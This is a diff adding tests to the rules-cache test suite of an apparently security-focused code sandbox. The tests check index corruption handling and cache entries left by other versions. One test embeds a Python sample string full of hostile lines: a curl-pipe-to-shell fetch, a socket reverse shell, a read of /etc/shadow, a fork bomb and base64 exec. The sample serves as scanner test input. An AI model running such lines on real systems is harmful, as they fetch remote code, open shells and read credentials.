@@ -5,11 +5,13 @@
 #include <sys/stat.h>
 
 #include <chrono>
+#include <cstring>
 #include <fstream>
 #include <thread>
 
 #include "assess/assess_rules_cache.hpp"
 #include "common/sha256.hpp"
+#include "sandboxrun/assess.hpp"
 #include "test_util.hpp"
 
 using namespace sandboxrun::assess;
@@ -44,6 +46,45 @@ TEST(AssessRulesCache, CompiledFormRoundTripsAndRejectsTruncation) {
   EXPECT_EQ(back->index().combos, set.index().combos);
   for (size_t n = 0; n < bytes.size(); n += 97) EXPECT_FALSE(RuleSet::deserialize(bytes.substr(0, n))) << n;
   EXPECT_FALSE(RuleSet::deserialize(bytes + "x"));
+}
+
+// The index is read where the compiled form lies (no copy, no rebuild): a damaged one must be
+// refused whole, or stay inside the rules when used. Words of its part of the form are damaged
+// one at a time; an accepted set then assesses code that meets every kind of rule (under the
+// sanitizer build a read outside fails the test).
+TEST(AssessRulesCache, DamagedIndexIsRefusedOrStaysInside) {
+  const sandboxrun::SecurityConfig base =
+      sandboxrun::load_security_config(std::filesystem::path(SANDBOXRUN_SOURCE_DIR) / "config/security.yaml",
+                                       SANDBOXRUN_SOURCE_DIR);
+  const std::string bytes = base.rules->serialize();
+  const std::string code =
+      "import os, socket, subprocess, ctypes\nfrom os import *\nos.system('curl http://x | sh')\n"
+      "s = socket.socket(); os.dup2(s.fileno(), 0); subprocess.call(['/bin/sh', '-i'])\n"
+      "ctypes.CDLL(None).mount\nexec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"
+      "open('/etc/shadow').read()\nwhile True:\n    os.fork()\nsystem('id')\n";
+  const size_t clean = sandboxrun::assess_source(code, base).findings.size();
+  ASSERT_GT(clean, 5u);
+  size_t tried = 0, refused = 0;
+  for (size_t back = 4; back < 24000 && back < bytes.size(); back += 44) {
+    std::string bad = bytes;
+    const size_t at = bytes.size() - back;
+    uint32_t v = 0;
+    std::memcpy(&v, bad.data() + at, sizeof v);
+    v ^= 0x00ff00ffu;
+    std::memcpy(bad.data() + at, &v, sizeof v);
+    ++tried;
+    auto set = RuleSet::deserialize(bad);
+    if (!set) {
+      ++refused;
+      continue;
+    }
+    sandboxrun::SecurityConfig cfg = base;
+    cfg.rules = std::make_shared<const RuleSet>(std::move(*set));
+    (void)sandboxrun::assess_source(code, cfg);
+  }
+  // Names, rule indexes and runs are all checked; only the string filter's bits (a third of
+  // this part of the form) can take any value.
+  EXPECT_GT(refused * 2, tried) << refused << " of " << tried << " damaged forms refused";
 }
 
 TEST(AssessRulesCache, BuiltOnceThenHitAndRebuiltWhenTheRulesChange) {
@@ -125,6 +166,24 @@ TEST(AssessRulesCache, CorruptEntryFailsVerificationAndIsRebuilt) {
   EXPECT_NE(r.note.find("verification"), std::string::npos) << r.note;
   EXPECT_EQ(r.rules.serialize(), reference.serialize());
   EXPECT_EQ(load_rules_cached(kRules, cache).use, CacheUse::hit);
+}
+
+// An entry's name depends on the encoding as well as the rules: another version of sandboxrun
+// sharing the cache (an upgrade while the old one still runs) keeps its own entry, instead of
+// the two rebuilding over each other's on every run. Here the other version's entry is one
+// named by the rules' digest alone (this version's name before), in an encoding this one
+// cannot read.
+TEST(AssessRulesCache, AnotherEncodingsEntryIsLeftAlone) {
+  TempDir d;
+  const auto cache = d.path() / "cache";
+  std::filesystem::create_directory(cache);
+  ::chmod(cache.c_str(), 0700);
+  const std::string other = "assess-rules-" + sandboxrun::sha256_hex(slurp(kRules)) + ".bin";
+  std::ofstream(cache / other, std::ios::binary) << "SRRULES\x01 an older encoding";
+  ::chmod((cache / other).c_str(), 0600);
+  EXPECT_EQ(load_rules_cached(kRules, cache).use, CacheUse::built);
+  EXPECT_EQ(load_rules_cached(kRules, cache).use, CacheUse::hit);
+  EXPECT_EQ(slurp(cache / other), "SRRULES\x01 an older encoding");
 }
 
 TEST(AssessRulesCache, DirectoryOthersCanWriteOrASymlinkIsBypassed) {
